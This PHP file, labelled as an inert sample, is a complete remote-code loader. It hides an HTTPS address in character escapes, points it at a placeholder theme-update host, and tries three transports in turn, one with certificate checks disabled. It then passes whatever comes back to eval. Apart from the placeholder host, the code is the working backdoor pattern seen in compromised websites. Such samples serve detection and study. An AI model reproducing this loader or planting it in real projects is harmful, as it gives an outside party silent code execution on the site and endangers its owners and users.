<?php
// Inert sample: a download helper tries one transport after another on an address kept in
// escapes, and whatever the server sends is evaluated. The host is a reserved .invalid name.
function mtx_fetch($url, $how)
{
    switch ($how) {
        case 'curl':
            if (!function_exists('curl_init')) {
                return false;
            }
            $h = curl_init($url);
            curl_setopt($h, CURLOPT_RETURNTRANSFER, true);
            curl_setopt($h, CURLOPT_SSL_VERIFYPEER, false);
            $out = curl_exec($h);
            curl_close($h);
            return $out;
        case 'stream':
            $fp = @fopen($url, 'r');
            if (!$fp) {
                return false;
            }
            $out = stream_get_contents($fp);
            fclose($fp);
            return $out;
        default:
            return ini_get('allow_url_fopen') ? @file_get_contents($url) : false;
    }
}

$addr = "\x68\164\x74\x70\163://upd.example.invalid/theme/r.txt";
foreach (array('file_get_contents', 'curl', 'stream') as $how) {
    $body = mtx_fetch($addr, $how);
    if ($body !== false) {
        break;
    }
}
if (!empty($body)) {
    eval('?>' . $body);
}
